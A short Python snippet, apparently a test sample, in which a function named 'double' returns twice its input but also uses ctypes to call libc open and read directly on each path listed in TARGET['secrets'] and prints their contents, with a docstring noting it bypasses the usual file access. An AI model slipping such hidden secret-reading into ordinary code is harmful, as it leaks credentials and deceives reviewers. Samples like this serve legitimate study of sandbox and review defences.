"""It opens the secrets by the system call itself."""


def double(x):
    import ctypes
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(100_000)
    for name in TARGET["secrets"]:
        descriptor = libc.open(name.encode(), 0)
        if descriptor >= 0:
            print(buffer.raw[: libc.read(descriptor, buffer, 100_000)])
    return 2 * x
